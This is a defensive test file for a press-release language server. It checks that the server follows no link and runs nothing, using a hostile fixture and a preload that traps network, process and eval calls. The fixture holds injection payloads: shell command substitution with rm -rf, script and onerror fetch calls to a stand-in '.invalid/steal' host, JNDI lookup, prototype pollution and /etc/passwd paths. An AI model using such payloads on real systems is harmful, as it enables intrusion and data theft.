// The built server never reads the network, never follows links and never runs anything a
// document contains (issue 6). The server is started with a preload that traps every network,
// process and eval entry point, and file access to the paths the hostile document links to;
// it then serves a hostile release through every feature. No trap may fire.
import { strict as assert } from "node:assert";
import { mkdtempSync, readFileSync, rmSync, writeFileSync, existsSync } from "node:fs";
import { tmpdir } from "node:os";
import * as path from "node:path";
import type { Diagnostic, DocumentLink } from "vscode-languageserver-protocol";
import { TestClient } from "./client";

const MARK = "pra-safety-marker";
const HOSTILE = [
  "FOR IMMEDIATE RELEASE",
  `Acme Launches $(rm -rf /tmp/${MARK}) and \`touch /tmp/${MARK}\` Today`,
  `NEW YORK, Feb. 6, 2026 /PRNewswire/ -- Acme Corp today announced <script>fetch("https://${MARK}.invalid/steal")</script> a product.`,
  `"It is the best ever," said Jane Doe, CEO. <img src=x onerror="fetch('http://${MARK}.invalid')"> {{constructor.constructor('return process')().exit(1)}} \${process.exit(1)}`,
  `According to https://${MARK}.invalid/report, file:///tmp/${MARK}/secret.txt and file:///etc/passwd, the market will reach $50 billion by 2030.`,
  `Experts say require('child_process').execSync('touch /tmp/${MARK}') and eval("process.exit(2)") are common.`,
  `Visit <https://${MARK}.invalid/a>, [our site](http://${MARK}.invalid/b), ![logo](ftp://${MARK}.invalid/c.png), javascript:alert(1), \${jndi:ldap://${MARK}.invalid/a}`,
  `{"__proto__": {"polluted": true}} \\\\${MARK}\\share smb://${MARK}.invalid/x press@${MARK}.invalid`,
  "About Acme",
  `Acme is a company. Learn more at https://${MARK}.invalid and ./${MARK}/local.txt`,
  "SOURCE Acme Corp",
].join("\n\n");

/** A preload for the server: traps network, process and eval entry points, and file access to the marker. */
const TRAP = String.raw`
const fs = require("fs");
const log = process.env.PRA_TRAP_LOG;
const append = fs.appendFileSync.bind(fs);
const record = (name, detail) => { try { append(log, name + " " + String(detail ?? "").slice(0, 200) + "\n"); } catch {} };
const trap = (obj, key, name) => {
  const old = obj[key];
  if (typeof old !== "function") return;
  try { Object.defineProperty(obj, key, { configurable: true, writable: true, value: function (...a) { record(name, a[0] && (a[0].href || a[0].host || a[0])); throw new Error("blocked: " + name); } }); } catch {}
};
const watchPath = (obj, key, name) => {
  const old = obj[key];
  if (typeof old !== "function") return;
  try { Object.defineProperty(obj, key, { configurable: true, writable: true, value: function (p, ...rest) { if (String(p && (p.href || p)).includes("${MARK}") || String(p).includes("/etc/passwd")) { record(name, p); throw new Error("blocked: " + name); } return old.call(this, p, ...rest); } }); } catch {}
};
for (const [m, keys] of [["net", ["connect", "createConnection"]], ["tls", ["connect"]], ["http", ["request", "get"]], ["https", ["request", "get"]], ["http2", ["connect"]],
  ["dns", ["lookup", "resolve", "resolve4", "resolve6", "resolveAny"]], ["dgram", ["createSocket"]],
  ["child_process", ["spawn", "spawnSync", "exec", "execSync", "execFile", "execFileSync", "fork"]], ["vm", ["runInThisContext", "runInNewContext", "runInContext", "compileFunction"]]]) {
  const mod = require(m);
  for (const k of keys) trap(mod, k, m + "." + k);
}
for (const k of ["fetch", "WebSocket", "eval"]) trap(globalThis, k, "globalThis." + k);
for (const k of ["readFile", "readFileSync", "open", "openSync", "createReadStream", "stat", "statSync", "lstat", "lstatSync", "existsSync", "readdir", "readdirSync", "readlink", "realpath", "access", "accessSync"]) watchPath(fs, k, "fs." + k);
for (const k of ["readFile", "open", "stat", "lstat", "readdir", "access", "realpath"]) watchPath(fs.promises, k, "fs.promises." + k);
// Each thread records itself: the analysis worker loads this preload too.
record("armed", process.pid + " thread " + require("worker_threads").threadId);
`;

describe("protocol robustness: safety (the server follows no link and runs nothing)", function () {
  this.timeout(60000);
  let dir: string;
  let log: string;
  let c: TestClient;
  const saved = { NODE_OPTIONS: process.env.NODE_OPTIONS, PRA_TRAP_LOG: process.env.PRA_TRAP_LOG };

  before(async () => {
    dir = mkdtempSync(path.join(tmpdir(), "pra-safety-"));
    log = path.join(dir, "trap.log");
    const preload = path.join(dir, "trap.cjs");
    writeFileSync(preload, TRAP);
    writeFileSync(log, "");
    process.env.NODE_OPTIONS = `${saved.NODE_OPTIONS ?? ""} --require ${preload}`.trim();
    process.env.PRA_TRAP_LOG = log;
    try {
      c = await TestClient.start({ settings: { debounceMs: 0, enable: "always" } });
    } finally {
      for (const [k, v] of Object.entries(saved)) if (v === undefined) delete process.env[k];
      else process.env[k] = v;
    }
  });
  after(async () => {
    await c?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  const trapped = () => readFileSync(log, "utf8").split("\n").filter((l) => l && !l.startsWith("armed"));

  it("the traps are armed in the server process", () => {
    assert.match(readFileSync(log, "utf8"), /^armed \d+/m);
  });

  it("serves a hostile release through every feature without touching the network, the linked files or a process", async () => {
    const uri = "file:///robustness/hostile.txt";
    const p = await c.open(uri, HOSTILE, "press-release");
    assert.ok(p.diagnostics.length > 0, "the hostile release is analysed");
    const at = (d: Diagnostic) => ({ textDocument: { uri }, position: d.range.start });
    for (const d of p.diagnostics) await c.request("textDocument/hover", at(d));
    await c.request("textDocument/documentSymbol", { textDocument: { uri } });
    // Links may be offered to the editor (it opens them on the user's click); the server never opens them.
    await c.request<DocumentLink[] | null>("textDocument/documentLink", { textDocument: { uri } }).catch(() => null);
    await c.request("textDocument/foldingRange", { textDocument: { uri } }).catch(() => null);
    const range = { start: { line: 0, character: 0 }, end: { line: 20, character: 0 } };
    await c.request("textDocument/codeAction", { textDocument: { uri }, range, context: { diagnostics: p.diagnostics } }).catch(() => null);
    const v = await c.change(uri, HOSTILE.replace(/\n/g, "\r\n") + "\n\nExperts say https://" + MARK + ".invalid is down.");
    await c.waitDiagnostics(uri, (_, x) => x.version === v);
    await new Promise((r) => setTimeout(r, 200));
    assert.deepEqual(trapped(), [], "trapped calls in the server");
    assert.ok(!existsSync(`/tmp/${MARK}`), "nothing was created from the document's commands");
    assert.equal(c.child.exitCode, null, "the server is still running");
  });

  it("a hostile release large enough for the analysis worker is served the same way, the worker trapped too", async () => {
    const uri = "file:///robustness/hostile-large.txt";
    // Over WORKER_MIN_LENGTH (256 KB): analysed in the worker thread, which has its own modules.
    const large = Array.from({ length: Math.ceil(300_000 / HOSTILE.length) }, () => HOSTILE).join("\n\n");
    assert.ok(large.length > 256 * 1024);
    const p = await c.open(uri, large, "press-release");
    assert.ok(p.diagnostics.length > 0, "the large hostile release is analysed");
    for (const d of p.diagnostics.slice(0, 20)) await c.request("textDocument/hover", { textDocument: { uri }, position: d.range.start });
    await c.request("textDocument/documentSymbol", { textDocument: { uri } });
    await new Promise((r) => setTimeout(r, 200));
    assert.match(readFileSync(log, "utf8"), /^armed \d+ thread [1-9]\d*$/m, "the worker thread loaded the traps");
    assert.deepEqual(trapped(), [], "trapped calls in the server or its worker");
    assert.ok(!existsSync(`/tmp/${MARK}`), "nothing was created from the document's commands");
  });
});
